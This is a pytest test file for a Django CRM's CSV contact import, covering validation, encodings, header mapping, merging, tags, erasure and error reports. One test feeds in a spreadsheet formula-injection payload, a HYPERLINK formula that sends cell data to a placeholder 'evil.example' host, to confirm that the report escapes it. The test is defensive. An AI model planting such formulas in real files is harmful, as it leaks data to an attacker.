import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.db import connection

from aicmo_site.errors import ConflictError, DomainError
from crm.choices import FieldSource, ImportPolicy, RunStatus, SuppressionKind
from crm.imports import import_run_create, import_run_execute, import_run_start
from crm.imports.run import UNEXPECTED_FAILURE
from crm.imports.validating import RowValidator, erasure_hash
from crm.models import Company, Contact, ImportRun, Suppression
from crm.tests.factories import ContactFactory, SuppressionFactory, TagFactory

pytestmark = pytest.mark.django_db


def upload(content: str | bytes, name: str = "contacts.csv") -> ContentFile:
    return ContentFile(content.encode() if isinstance(content, str) else content, name=name)


def run_import(content, **options) -> ImportRun:
    run = import_run_create(upload=upload(content), **options)
    return import_run_start(run=run, background=False)


def report_rows(run: ImportRun) -> list[dict]:
    with run.error_report.open("rb") as handle:
        return list(csv.DictReader(io.StringIO(handle.read().decode("utf-8-sig"))))


def test_good_rows_are_imported_and_each_bad_row_is_reported_with_line_column_and_reason():
    run = run_import(
        "Email,First Name,LinkedIn\n"
        "ada@example.com,Ada,\n"
        "not-an-email,Bob,\n"
        ",Nobody,\n"
        "cy@example.com,Cy,https://example.com/cy\n"
        "dee@example.com," + "D" * 121 + ",\n"
        "eve@example.com,Eve,linkedin.com/in/eve\n"
    )
    assert run.status == RunStatus.COMPLETED
    assert (run.processed_rows, run.created_count, run.failed_count) == (6, 2, 4)
    assert set(Contact.objects.values_list("email", flat=True)) == {"ada@example.com", "eve@example.com"}
    assert Contact.objects.get(email="eve@example.com").linkedin_url == "https://linkedin.com/in/eve"
    problems = [(r["line"], r["column"], r["reason"].split(" (")[0]) for r in report_rows(run)]
    assert problems == [
        ("3", "Email", "This is not a valid email address."),
        ("4", "Email", "The email address is missing."),
        ("5", "LinkedIn", "Not a LinkedIn profile address"),
        ("6", "First Name", "At most 120 characters"),
    ]
    first = report_rows(run)[0]
    assert (first["value"], first["First Name"]) == ("not-an-email", "Bob")


def test_line_numbers_count_quoted_line_breaks_and_extra_cells_are_reported():
    run = run_import(
        'email,city\n"ada@example.com","Paris\nFrance"\nbob@example.com,Lyon,extra\ncy@example.com,Nice\n'
    )
    assert Contact.objects.get(email="ada@example.com").city == "Paris\nFrance"
    assert [(r["line"], r["reason"][:28]) for r in report_rows(run)] == [("4", "The line has 3 cells but the")]
    assert run.created_count == 2


@pytest.mark.parametrize("encoding,delimiter", [("utf-8-sig", ","), ("latin-1", ";"), ("utf-8", ";")])
def test_encodings_and_delimiters_are_detected(encoding, delimiter):
    text = f"Email{delimiter}First Name{delimiter}City\nzoe@example.com{delimiter}Zoë{delimiter}Köln\n"
    run = run_import(text.encode(encoding))
    contact = Contact.objects.get(email="zoe@example.com")
    assert (contact.first_name, contact.city) == ("Zoë", "Köln")
    assert (run.encoding, run.delimiter) == (encoding, delimiter)


def test_a_latin1_line_inside_a_utf8_file_is_read_without_losing_the_others():
    content = "email,first_name\nana@example.com,Zoë\n".encode() + "bo@example.com,Jos\xe9\n".encode("latin-1")
    run = run_import(content)
    assert run.created_count == 2
    assert Contact.objects.get(email="bo@example.com").first_name == "José"


@pytest.mark.parametrize("headers,expected", [
    # Mautic
    (["email", "firstname", "lastname", "company", "position", "mobile", "tags"],
     ["email", "first_name", "last_name", "company", "job_title", "phone", "tags"]),
    # HubSpot
    (["Email", "First Name", "Last Name", "Company Name", "Job Title", "Phone Number", "Country/Region"],
     ["email", "first_name", "last_name", "company", "job_title", "phone", "country"]),
    # Salesforce
    (["Email", "First Name", "Last Name", "Account Name", "Title", "Mailing City", "Lead Source"],
     ["email", "first_name", "last_name", "company", "job_title", "city", "source"]),
    # LinkedIn connections
    (["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"],
     ["first_name", "last_name", "linkedin_url", "email", "company", "job_title", ""]),
    # Apollo
    (["First Name", "Last Name", "Title", "Company Name", "Email", "Mobile Phone", "Person Linkedin Url", "City"],
     ["first_name", "last_name", "job_title", "company", "email", "phone", "linkedin_url", "city"]),
    (["E-mail", "Prénom"], ["email", ""]),
])
def test_headers_of_common_exports_are_mapped_automatically(headers, expected):
    from crm.imports.mapping import auto_mapping

    assert list(auto_mapping(headers).values()) == expected


def test_a_hand_made_mapping_overrides_the_automatic_one_and_fills_custom_fields():
    run = run_import("Mail,Employer,Plan\nana@example.com,Acme,gold\n",
                     mapping={"Mail": "email", "Employer": "company", "Plan": "custom:plan"})
    contact = Contact.objects.get(email="ana@example.com")
    assert contact.custom_fields == {"plan": "gold"}
    assert contact.company.name == "Acme" and contact.company.domain == "example.com"
    assert contact.field_sources == {"company": FieldSource.IMPORT, "custom:plan": FieldSource.IMPORT}
    assert run.mapping["Plan"] == "custom:plan"


def test_an_unusable_mapping_is_refused_with_the_column_at_fault():
    with pytest.raises(DomainError) as caught:
        import_run_create(upload=upload("Mail,Plan\na@example.com,x\n"), mapping={"Plan": "salary", "Nope": "city"})
    fields = caught.value.extra["fields"]
    assert "Unknown field 'salary'" in fields["Plan"] and "no column 'Nope'" in fields["Nope"]


def test_a_file_without_an_email_column_fails_the_run_with_a_message():
    run = import_run_create(upload=upload("name,city\nAda,Paris\n"))
    with pytest.raises(DomainError, match="No column is mapped to email"):
        import_run_start(run=run, background=False)


def test_an_empty_file_is_refused():
    with pytest.raises(DomainError, match="empty"):
        import_run_create(upload=upload(b"  \n"))


def test_a_personal_mailbox_keeps_the_company_as_a_custom_field():
    run_import("email,company\nana@gmail.com,Acme\n")
    contact = Contact.objects.get(email="ana@gmail.com")
    assert contact.company is None and contact.custom_fields == {"company": "Acme"}
    assert not Company.objects.filter(domain="gmail.com").exists()


def test_duplicates_inside_the_file_are_merged_later_values_winning_under_update():
    run = run_import("email,first_name,city,tags\nAna@Example.com,Ana,,a\nana@example.com,,Paris,b\n"
                     "ana@example.com,Anna,,\n", policy=ImportPolicy.UPDATE)
    contact = Contact.objects.get()
    assert (contact.email, contact.first_name, contact.city) == ("ana@example.com", "Anna", "Paris")
    assert sorted(contact.tags.values_list("name", flat=True)) == ["a", "b"]
    assert (run.created_count, run.updated_count, run.skipped_count) == (1, 2, 0)


def test_duplicates_inside_the_file_keep_the_first_row_under_skip_existing():
    run = run_import("email,first_name,tags\nana@example.com,Ana,a\nana@example.com,Anna,b\n",
                     policy=ImportPolicy.SKIP_EXISTING)
    contact = Contact.objects.get()
    assert contact.first_name == "Ana"
    assert sorted(contact.tags.values_list("name", flat=True)) == ["a", "b"]
    assert (run.created_count, run.updated_count, run.skipped_count) == (1, 0, 1)


@pytest.mark.parametrize("chunk_rows", [1, 1000])
def test_duplicates_across_chunks_give_the_same_result(settings, chunk_rows):
    settings.CRM_IMPORT_CHUNK_ROWS = chunk_rows
    run = run_import("email,first_name,city\nana@example.com,Ana,\nbo@example.com,Bo,\nana@example.com,,Paris\n")
    contact = Contact.objects.get(email="ana@example.com")
    assert (contact.first_name, contact.city) == ("Ana", "Paris")
    assert (run.created_count, run.updated_count) == (2, 1)


def test_update_overwrites_imported_fields_but_never_what_a_person_typed():
    ContactFactory(email="ana@example.com", first_name="Ana", last_name="Typed", job_title="Old",
                   custom_fields={"plan": "manual-plan", "size": "s"},
                   field_sources={"last_name": FieldSource.MANUAL, "job_title": FieldSource.IMPORT,
                                  "custom:plan": FieldSource.MANUAL})
    run = run_import("email,first_name,last_name,job_title,plan,size\n"
                     "ana@example.com,Anna,FromFile,CEO,file-plan,m\n",
                     mapping={"plan": "custom:plan", "size": "custom:size"})
    contact = Contact.objects.get()
    assert (contact.first_name, contact.last_name, contact.job_title) == ("Anna", "Typed", "CEO")
    assert contact.custom_fields == {"plan": "manual-plan", "size": "m"}
    assert contact.field_sources["last_name"] == FieldSource.MANUAL
    assert contact.field_sources["job_title"] == FieldSource.IMPORT
    assert contact.field_sources["custom:plan"] == FieldSource.MANUAL
    assert (run.created_count, run.updated_count) == (0, 1)


def row_versions() -> dict[str, str]:
    """Where each contact's row version lies in the table (PostgreSQL): an UPDATE writes a new one."""
    if connection.vendor != "postgresql":
        return {}
    with connection.cursor() as cursor:
        cursor.execute("SELECT email, ctid::text FROM crm_contact")
        return dict(cursor.fetchall())


def test_importing_the_same_file_again_counts_updates_and_adds_tags_but_rewrites_no_unchanged_contact():
    content = "email,first_name,plan,tags\nana@example.com,Ana,pro,a\nbo@example.com,Bo,free,b\n"
    run_import(content, mapping={"plan": "custom:plan"})
    stored = row_versions()
    run = run_import(content.replace("Bo,free", "Bob,free"), mapping={"plan": "custom:plan"}, tag="again")
    assert (run.created_count, run.updated_count, run.skipped_count) == (0, 2, 0)
    if connection.vendor == "postgresql":  # the ORM path (SQLite) saves every stored contact it meets
        again = row_versions()
        assert again["ana@example.com"] == stored["ana@example.com"]
        assert again["bo@example.com"] != stored["bo@example.com"]
    ana, bo = Contact.objects.order_by("email")
    assert (ana.first_name, ana.custom_fields, bo.first_name) == ("Ana", {"plan": "pro"}, "Bob")
    assert sorted(ana.tags.values_list("name", flat=True)) == ["a", "again"]
    assert sorted(bo.tags.values_list("name", flat=True)) == ["again", "b"]


def test_blank_cells_never_erase_stored_values():
    ContactFactory(email="ana@example.com", first_name="Ana", city="Paris", source="webinar")
    run_import("email,first_name,city\nana@example.com,,\n")
    contact = Contact.objects.get()
    assert (contact.first_name, contact.city, contact.source) == ("Ana", "Paris", "webinar")


def test_skip_existing_leaves_stored_contacts_alone_but_adds_the_list_tag():
    ContactFactory(email="ana@example.com", first_name="Ana")
    run = run_import("email,first_name\nana@example.com,Changed\nbo@example.com,Bo\n",
                     policy=ImportPolicy.SKIP_EXISTING, tag="webinar")
    assert Contact.objects.get(email="ana@example.com").first_name == "Ana"
    assert (run.created_count, run.updated_count, run.skipped_count) == (1, 0, 1)
    assert Contact.objects.filter(tags__name="webinar").count() == 2


def test_tags_column_and_run_tag_are_applied_and_existing_tags_reused():
    TagFactory(name="vip")
    run_import("email,tags\nana@example.com,vip; beta\nbo@example.com,\"beta,vip\"\n", tag="fair-2026")
    tags = {c.email: sorted(c.tags.values_list("name", flat=True)) for c in Contact.objects.all()}
    assert tags == {"ana@example.com": ["beta", "fair-2026", "vip"], "bo@example.com": ["beta", "fair-2026", "vip"]}


def test_rows_with_the_same_tags_cell_keep_their_own_tags_when_a_duplicate_adds_some():
    # Rows with one tags cell share what it names: folding ana's second row into her first must not
    # give bo (same cell as ana's first row) her extra tag, nor cy (two tag columns) anyone's.
    run_import("email,tags,labels\nana@example.com,vip,\nbo@example.com,vip,\nana@example.com,beta,\n"
               "cy@example.com,vip,gold\n", mapping={"labels": "tags"}, tag="fair")
    tags = {c.email: sorted(c.tags.values_list("name", flat=True)) for c in Contact.objects.all()}
    assert tags == {"ana@example.com": ["beta", "fair", "vip"], "bo@example.com": ["fair", "vip"],
                    "cy@example.com": ["fair", "gold", "vip"]}


def test_a_tags_cell_with_a_too_long_name_is_reported_on_every_row_that_has_it():
    cell = "ok;" + "t" * 81
    run = run_import(f"email,tags\nana@example.com,{cell}\nbo@example.com,ok\ncy@example.com,{cell}\n")
    assert (run.created_count, run.failed_count) == (1, 2)
    assert [(r["line"], r["reason"]) for r in report_rows(run)] == [
        ("2", "A tag has at most 80 characters."), ("4", "A tag has at most 80 characters.")]


def test_update_adds_new_tags_to_stored_contacts_and_keeps_the_ones_they_have():
    ContactFactory(email="ana@example.com").tags.add(TagFactory(name="vip"))
    run = run_import("email,tags\nana@example.com,vip;beta\nbo@example.com,vip\n")
    tags = {c.email: sorted(c.tags.values_list("name", flat=True)) for c in Contact.objects.all()}
    assert tags == {"ana@example.com": ["beta", "vip"], "bo@example.com": ["vip"]}
    assert (run.status, run.created_count, run.updated_count) == (RunStatus.COMPLETED, 1, 1)


def test_suppressed_addresses_are_imported_and_stay_suppressed():
    SuppressionFactory(kind=SuppressionKind.EMAIL, value="gone@example.com")
    run_import("email\ngone@example.com\n")
    assert Contact.objects.filter(email="gone@example.com").exists()
    assert Suppression.objects.filter(value="gone@example.com").exists()


def test_an_erased_person_is_not_imported_again():
    SuppressionFactory(kind=SuppressionKind.EMAIL, value=erasure_hash("gone@example.com"))
    run = run_import("email\nGone@Example.com\nstay@example.com\n")
    assert list(Contact.objects.values_list("email", flat=True)) == ["stay@example.com"]
    assert "asked to be erased" in report_rows(run)[0]["reason"]


def test_progress_is_committed_chunk_by_chunk(settings):
    settings.CRM_IMPORT_CHUNK_ROWS = 2
    run = import_run_create(upload=upload("email\n" + "".join(f"p{n}@example.com\n" for n in range(5))))
    assert run.total_rows == 5 and run.progress == 0
    seen = []
    import_run_execute(run.pk, progress=lambda r: seen.append((r.processed_rows, r.progress)))
    assert seen == [(2, 40), (4, 80), (5, 100)]


def test_a_stopped_run_resumes_after_its_last_committed_chunk_without_double_reporting(settings):
    settings.CRM_IMPORT_CHUNK_ROWS = 2
    content = "email\nbad-1\na@example.com\nb@example.com\nbad-2\n"
    run = import_run_create(upload=upload(content))
    seen = []

    def stop_after_first_chunk(progress_run):
        seen.append(progress_run.processed_rows)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        import_run_execute(run.pk, progress=stop_after_first_chunk)
    run.refresh_from_db()
    assert (run.status, run.processed_rows) == (RunStatus.RUNNING, 2)
    run = import_run_execute(run.pk)
    assert run.status == RunStatus.COMPLETED
    assert (run.processed_rows, run.created_count, run.failed_count) == (4, 2, 2)
    assert [r["line"] for r in report_rows(run)] == ["2", "5"]


def test_executing_a_finished_run_again_changes_nothing():
    run = run_import("email\na@example.com\n")
    again = import_run_execute(run.pk)
    assert (again.status, again.created_count, again.processed_rows) == (RunStatus.COMPLETED, 1, 1)
    with pytest.raises(ConflictError):
        import_run_start(run=again, background=False)


def test_a_new_contact_joins_the_stored_company_of_its_domain_but_a_stored_contact_keeps_its_own():
    acme = Company.objects.create(domain="acme.example", name="Acme")
    other = Company.objects.create(domain="other.example", name="Other")
    ContactFactory(email="old@acme.example", domain="acme.example", company=other)
    run_import("email\nnew@acme.example\nold@acme.example\n")
    assert Contact.objects.get(email="new@acme.example").company == acme
    assert Contact.objects.get(email="old@acme.example").company == other


def test_quotes_backslashes_and_separators_survive_the_trip_to_the_database():
    run_import('email,first_name,tags,note\nana@example.com,"O\'Brien ""Jr"" \\ x","a\\b;say ""hi""",'
               '"line1\nline2, {x}"\n', mapping={"note": "custom:note"})
    contact = Contact.objects.get()
    assert contact.first_name == 'O\'Brien "Jr" \\ x'
    assert sorted(contact.tags.values_list("name", flat=True)) == ["a\\b", 'say "hi"']
    assert contact.custom_fields == {"note": "line1\nline2, {x}"}


def test_tabs_and_copy_markers_in_values_are_stored_as_written():
    # PostgreSQL's COPY text format reads a tab as the next column, \N as NULL and \. as the end of data.
    run_import('email,first_name,last_name,note\nana@example.com,"Ana\tMaria",\\N,"\\."\n'
               'bo@example.com,Bo,"\\t",plain\n', mapping={"note": "custom:note"})
    ana, bo = Contact.objects.order_by("email")
    assert (ana.first_name, ana.last_name, ana.custom_fields) == ("Ana\tMaria", "\\N", {"note": "\\."})
    assert (bo.first_name, bo.last_name, bo.custom_fields) == ("Bo", "\\t", {"note": "plain"})


def test_a_run_canceled_while_importing_stops_after_the_current_chunk(settings):
    settings.CRM_IMPORT_CHUNK_ROWS = 1
    run = import_run_create(upload=upload("email\na@example.com\nb@example.com\nc@example.com\n"))

    def cancel_after_first_chunk(progress_run):
        if progress_run.processed_rows == 1:
            ImportRun.objects.filter(pk=progress_run.pk).update(status=RunStatus.CANCELED)

    run = import_run_execute(run.pk, progress=cancel_after_first_chunk)
    assert (run.status, run.processed_rows) == (RunStatus.CANCELED, 1)
    assert list(Contact.objects.values_list("email", flat=True)) == ["a@example.com"]


def test_a_chunk_of_only_bad_rows_is_counted_and_the_chunks_after_it_are_imported(settings):
    settings.CRM_IMPORT_CHUNK_ROWS = 2
    run = run_import("email,tags\nbad-1,x\nbad-2,x\na@example.com,x\n")
    assert (run.status, run.processed_rows, run.created_count, run.failed_count) == (RunStatus.COMPLETED, 3, 1, 2)
    assert [r["line"] for r in report_rows(run)] == ["2", "3"]
    assert list(Contact.objects.filter(tags__name="x").values_list("email", flat=True)) == ["a@example.com"]


def test_a_file_that_breaks_while_being_read_ahead_fails_the_run_with_the_chunks_before_it_kept(settings, monkeypatch):
    settings.CRM_IMPORT_CHUNK_ROWS = 1
    run = import_run_create(upload=upload("email\na@example.com\nb@example.com\nc@example.com\n"))
    original = RowValidator.validate

    def break_on_c(self, record):
        if record.values[0] == "c@example.com":
            raise OSError("disk went away")
        return original(self, record)

    monkeypatch.setattr(RowValidator, "validate", break_on_c)
    run = import_run_execute(run.pk)
    assert run.status == RunStatus.FAILED and run.error == UNEXPECTED_FAILURE
    assert sorted(Contact.objects.values_list("email", flat=True)) == ["a@example.com", "b@example.com"]
    assert run.processed_rows == 2


def test_custom_fields_a_person_typed_as_a_whole_are_kept_and_their_provenance_too():
    ContactFactory(email="ana@example.com", custom_fields={"plan": "typed"},
                   field_sources={"custom_fields": FieldSource.MANUAL})
    run_import("email,first_name,plan\nana@example.com,Ana,from-file\n", mapping={"plan": "custom:plan"})
    contact = Contact.objects.get()
    assert contact.custom_fields == {"plan": "typed"}
    assert contact.field_sources == {"custom_fields": FieldSource.MANUAL, "first_name": FieldSource.IMPORT}


def test_the_error_report_quotes_cells_that_start_like_a_formula():
    run = run_import('email,first_name\n=HYPERLINK("http://evil.example/?x="&A1),@SUM(A1)\n')
    [problem] = report_rows(run)
    assert problem["value"] == '\'=hyperlink("http://evil.example/?x="&a1)'
    assert (problem["email"], problem["first_name"]) == ('\'=HYPERLINK("http://evil.example/?x="&A1)', "'@SUM(A1)")


def test_a_line_with_a_nul_byte_is_reported_and_the_other_lines_are_imported():
    run = run_import(b"email,first_name\nana@example.com,Ana\nbo@example.com,B\x00o\ncy@example.com,Cy\n")
    assert (run.status, run.created_count, run.failed_count) == (RunStatus.COMPLETED, 2, 1)
    assert sorted(Contact.objects.values_list("email", flat=True)) == ["ana@example.com", "cy@example.com"]
    [problem] = report_rows(run)
    assert problem["line"] == "3" and "NUL character" in problem["reason"]
    assert (problem["email"], problem["first_name"]) == ("bo@example.com", "Bo")


@pytest.mark.parametrize("content", [
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00;",
    b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    "email,first_name\nana@example.com,Ana\n".encode("utf-16"),
    b"em\x00ail,first_name\nana@example.com,Ana\n",
], ids=["gif", "png", "utf-16", "nul-in-header"])
def test_a_binary_file_is_refused_before_a_run_exists(content):
    with pytest.raises(DomainError) as refused:
        import_run_create(upload=upload(content))
    assert refused.value.code == "not_csv"
    assert not ImportRun.objects.exists()


def test_an_unexpected_failure_is_reported_without_the_raw_error(monkeypatch):
    run = import_run_create(upload=upload("email\na@example.com\n"))

    def database_failure(self, record):
        raise ValueError('invalid byte sequence for encoding "UTF8": 0x00 COPY crm_import_staging')

    monkeypatch.setattr(RowValidator, "validate", database_failure)
    run = import_run_execute(run.pk)
    assert run.status == RunStatus.FAILED
    assert "unexpected error" in run.error and "crm_import_staging" not in run.error


def test_a_time_zone_column_is_mapped_and_checked_against_the_zone_names():
    run = run_import("Email,Time zone\nada@example.com,Europe/Paris\nbob@example.com,Mars/Olympus\n")
    assert (run.created_count, run.failed_count) == (1, 1)
    assert Contact.objects.get(email="ada@example.com").time_zone == "Europe/Paris"
    assert [(r["column"], r["reason"]) for r in report_rows(run)] == [
        ("Time zone", "Not a time zone name such as Europe/Paris.")]
